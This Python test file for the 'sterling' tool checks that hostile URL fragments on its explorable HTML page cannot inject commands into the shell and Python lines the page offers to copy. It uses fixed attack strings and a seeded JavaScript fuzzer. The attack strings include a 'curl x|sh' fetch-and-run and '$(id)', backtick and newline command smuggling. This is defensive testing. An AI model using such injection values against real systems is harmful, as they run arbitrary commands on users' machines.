"""The address of the explorable page: whatever stands in it, the lines to copy hold nothing but settings."""

import re
import shlex

from typer.testing import CliRunner

from sterling.cli.verbs import app
from tests.browsing import visit

ATTACKS = (
    "#n=4&samples=50&schedule=power:0.5,0.5:;curl%20x|sh%0A",
    "#n=4&samples=50&restart=300,0.05,$(id)%0Aid",
    "#n=4%0Aid&samples=50;id&seed=1%60id%60&surrogate=relu;id&noise=0.5$(id)&steps=10|id&init=%0A",
)
SHELL = re.compile(r"[\w .,:=-]+", re.ASCII)
PYTHON = re.compile(r'[\w .,:=()\[\]"\n-]+', re.ASCII)

KEYS = "n samples m noise surrogate schedule restart seed init steps story view speed at"
PIECES = (
    "1 8 0.5 12 300 1e3 0x10 -1 1e-9 Infinity NaN power: constant: table: 0.5,0.5 300,0.05 , : . relu "
    "identity id ;id $(id) `id` |sh &&id >x <b> ' \" \\ %0A %00 # é = ! \n \r \t \u2028"
)

#: Random fragments, right and hostile; returns those whose lines have other letters, and some lines.
FUZZ = """
    const [count, shell, python] = arguments;
    const keys = arguments[3].split(" "), pieces = [" ", "--out x", "", ...arguments[4].split(" ")];
    let state = 20261201;
    const random = (count) => {
        state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
        return Math.floor(state / 4294967296 * count);
    };
    const pick = (list) => list[random(list.length)];
    const usual = { schedule: ["power:0.5,", "constant:0.", "table:0.5,0."], restart: ["300,0.", "75,"] };
    const value = (key) => (random(2) && usual[key] ? pick(usual[key]) : "")
        + Array.from({ length: random(4) }, () => pick(pieces)).join("");
    const fragment = () => "#" + Array.from({ length: 1 + random(6) }, () => {
        const key = pick(keys);
        return `${key}=${random(2) ? value(key) : encodeURIComponent(value(key))}`;
    }).join("&");
    const bad = [], some = new Map();
    for (let i = 0; i < count; i++) {
        const text = fragment(), { settings } = sterling.fromAddress(text, sterling.storySettings);
        const line = sterling.shellLine(settings, settings.steps);
        const other = sterling.pythonLine(settings, settings.steps);
        if (!new RegExp(shell).test(line) || !new RegExp(python).test(other)) bad.push(text);
        some.set(`${settings.schedule} ${settings.restart}`, line);
    }
    return [bad, [...some.values()]];
"""


def test_hostile_addresses_leave_the_lines_clean(driver, tmp_path):
    from sterling.report.explore import write_explorable

    address = write_explorable(tmp_path / "explore.html").as_uri()
    for attack in ATTACKS:
        visit(driver, address + attack)
        line = driver.find_element("id", "shell").text
        assert SHELL.fullmatch(line), line
        assert "id" not in line.replace("identity", ""), line
    patterns = (f"^{pattern.pattern}$" for pattern in (SHELL, PYTHON))
    bad, lines = driver.execute_script(FUZZ, 100_000, *patterns, KEYS, PIECES)
    assert bad == []
    assert len(lines) > 60
    for line in lines[:: len(lines) // 30]:
        program, verb, *words = shlex.split(line)
        assert (program, verb) == ("sterling", "train")
        options = dict(zip(words[::2], words[1::2], strict=True)) | {
            "--n": "4",
            "--samples": "20",
            "--steps": "3",
        }
        done = CliRunner().invoke(
            app, ["train", *(word for pair in options.items() for word in pair), "--quiet"]
        )
        assert done.exit_code == 0, (line, done.output)
